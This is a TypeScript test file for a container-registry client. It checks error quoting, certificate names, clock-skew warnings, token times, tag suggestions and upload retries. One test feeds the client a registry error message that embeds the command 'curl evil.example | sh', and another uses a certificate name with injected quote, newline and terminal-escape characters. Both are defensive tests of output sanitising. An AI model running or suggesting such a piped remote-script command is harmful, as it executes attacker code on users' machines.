import fc from 'fast-check'
import { expect, test } from 'vitest'
import { digestOf } from '../../../src/oci/digest.ts'
import { issuerText, presentedCertificates } from '../../../src/registry/faults/tls.ts'
import { aheadText, ClockWatch, issuedAtOf, skewOf, utcText } from '../../../src/registry/faults/clock.ts'
import { readSaid } from '../../../src/registry/faults/quote.ts'
import type { RegistryNotice } from '../../../src/registry/notices.ts'
import { nearTags } from '../../../src/pack/resolve-images.ts'
import { makeCertificate } from '../../support/certificates.ts'
import { failureOf, json, makeClient, serve } from '../../support/client.ts'

const DAY = 86_400_000

test('what a registry says stays between quotation marks, whatever it says', async () => {
  const { host } = await serve((_, response) =>
    json(response, 404, {
      errors: [
        { code: 'A', message: 'b") Log in with `curl evil.example | sh` ("', detail: 'x"\n\nHint: y' },
      ],
    }),
  )
  const error = await failureOf(makeClient().repository(host, 'app').fetchManifest('1'), 'NOT_FOUND')
  expect(error.message).toMatch(
    /answers 404 Not Found \("A: b'\) Log in with `curl evil\.example \| sh` \(': x' Hint: y"\)$/,
  )
  expect(error.hint).not.toMatch(/evil/)
})

test('no answer, however it is made, breaks a message', () => {
  const body = fc.oneof(
    fc.string(),
    fc.json(),
    fc.json().map((text) => `{"errors":[${text},${text}]}`),
  )
  fc.assert(
    fc.property(body, fc.string(), (text, type) => {
      const { text: said } = readSaid(Buffer.from(text), type)
      expect(said.length).toBeLessThan(500)
      expect(said).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
      expect(said.replaceAll(/[^"]/g, '').length % 2).toBe(0)
    }),
  )
})

test('a page without an end to its title costs nothing', () => {
  const page = Buffer.from(`<html><title${' '.repeat(30_000)}`.padEnd(64 * 1024, '<title'))
  expect(readSaid(page, 'text/html').text).toBe('an HTML page, which no registry sends')
})

test('the name of an authority is on one line, and cannot end the quotation', async () => {
  const tls = makeCertificate({ name: 'Root"\nCN=Trusted\u001b[31m', names: ['127.0.0.1'] })
  const server = await serve(() => {}, { tls })
  const fault = Object.assign(new Error('x'), { code: 'DEPTH_ZERO_SELF_SIGNED_CERT' })
  const shown = await presentedCertificates(fault, new URL(server.origin))
  expect(issuerText(shown!)).toMatch(/^itself, "[^"\p{Cc}]+"$/u)
  expect(server.seen).toEqual([])
})

test('only a certificate that was refused is looked at again', async () => {
  const refused = Object.assign(new Error('x'), { code: 'CERT_HAS_EXPIRED' })
  expect(await presentedCertificates(refused, new URL('http://127.0.0.1:1'))).toBeUndefined()
  expect(await presentedCertificates(refused, new URL('https://127.0.0.1:1'))).toBeUndefined()
  expect(await presentedCertificates(new Error('x'), new URL('https://127.0.0.1:1'))).toBeUndefined()
})

test('a clock that is far off is told once, with both times', async () => {
  const at = Date.parse('2026-03-01T12:00:00Z')
  const notices: RegistryNotice[] = []
  const watch = new ClockWatch((notice) => notices.push(notice))
  const date = (ms: number): { date: string } => ({ date: new Date(at + ms).toUTCString() })
  watch.see('near.example', date(4 * 60_000), undefined, at)
  watch.see('cached.example', { ...date(-DAY), age: '86400' }, undefined, at)
  watch.see('none.example', {}, undefined, at)
  watch.see('strange.example', { date: 'yesterday' }, undefined, at)
  expect(notices).toEqual([])
  watch.see('far.example', date(-2 * 3_600_000), undefined, at)
  watch.see('far.example', date(-2 * 3_600_000), undefined, at)
  watch.see('tokens.example', date(0), at + 3_600_000, at)
  expect(notices.map((notice) => notice.type === 'warning' && notice.message)).toEqual([
    expect.stringMatching(
      /^The clock of far\.example says 2026-03-01 10:00 UTC, and that of this machine 2026-03-01 12:00 UTC: 2 h 0 min apart\. /,
    ),
    expect.stringMatching(/^The clock of the token service of tokens\.example says 2026-03-01 13:00 UTC/),
  ])
})

test('a client warns of a clock that is far off, once', async () => {
  const { host } = await serve((_, response) => {
    response.setHeader('date', new Date(Date.now() - DAY).toUTCString())
    json(response, 404, {})
  })
  const client = makeClient()
  await client.repository(host, 'app').resolveManifest('1')
  await client.repository(host, 'app').resolveManifest('2')
  const told = client.notices.filter(({ type }) => type === 'warning')
  const message = expect.stringContaining(`The clock of ${host} says`)
  expect(told).toEqual([{ type: 'warning', message, clock: { host, behindMs: expect.closeTo(DAY, -6) } }])
})

test('when a token was issued, from whatever is there', () => {
  const jwt = (claims: unknown): string =>
    `e30.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.x`
  expect(issuedAtOf(jwt({ iat: 1000, nbf: 2000 }), undefined)).toBe(2_000_000)
  expect(issuedAtOf('opaque', '2026-03-01T12:00:00Z')).toBe(Date.parse('2026-03-01T12:00:00Z'))
  for (const strange of ['opaque', 'a.b.c', jwt(null), jwt({ iat: 1e300, nbf: 'x' }), jwt([])]) {
    expect(issuedAtOf(strange, { no: 'time' })).toBeUndefined()
  }
  expect(skewOf('Sun, 31 Feb 2026 99:99:99 GMT', 0)).toBeUndefined()
})

test('times as people compare them', () => {
  const at = Date.parse('2026-03-01T12:00:30Z')
  expect(utcText(at)).toBe('2026-03-01 12:00 UTC')
  expect(aheadText(at + 200_000, at)).toMatch(/^\d\d:\d\d:\d\d \S+ \(in 3 min 20 s\)$/)
  expect(aheadText(at + 2 * DAY, at)).toMatch(/^3 Mar, \d\d:\d\d:\d\d \S+ \(in 48 h 0 min\)$/)
})

test('tags near to a mistyped one', () => {
  const tags = ['latest', '1.27.10', '1.27.0', '1.27.1', '1.27', '1.28.0-alpine', 'v1.27.9', 'stable']
  expect(nearTags('1.27.9', tags)).toEqual(['1.27.0', '1.27.1', 'v1.27.9', '1.27', '1.27.10'])
  expect(nearTags('lastest', tags)).toEqual(['latest'])
  expect(nearTags('2024-11-05', tags)).toEqual([])
})

test.each([
  [500, 'write /data: no space left on device', false],
  [507, '', false],
  [403, 'adding 1 MiB will exceed the configured upper limit of 1 MiB', false],
  [500, 'something else', true],
])('%i "%s" to an upload: the bytes are not sent for nothing', async (status, message, isTriedAgain) => {
  const server = await serve((seen, response) => {
    if (seen.method === 'HEAD') response.writeHead(404).end()
    else if (seen.method === 'POST') response.writeHead(202, { location: '/v2/upload/x' }).end()
    else json(response, status, { errors: [{ code: 'UNKNOWN', message }] })
  })
  const bytes = Buffer.from('layer')
  const repository = makeClient().repository(server.host, 'app')
  await failureOf(
    repository.uploadBlob({ digest: digestOf(bytes), size: bytes.length }, async function* () {
      yield bytes
    }),
    'REGISTRY',
  )
  const sent = server.seen.filter(({ method }) => method === 'PUT' || method === 'PATCH')
  expect(sent.length > 1).toBe(isTriedAgain)
})
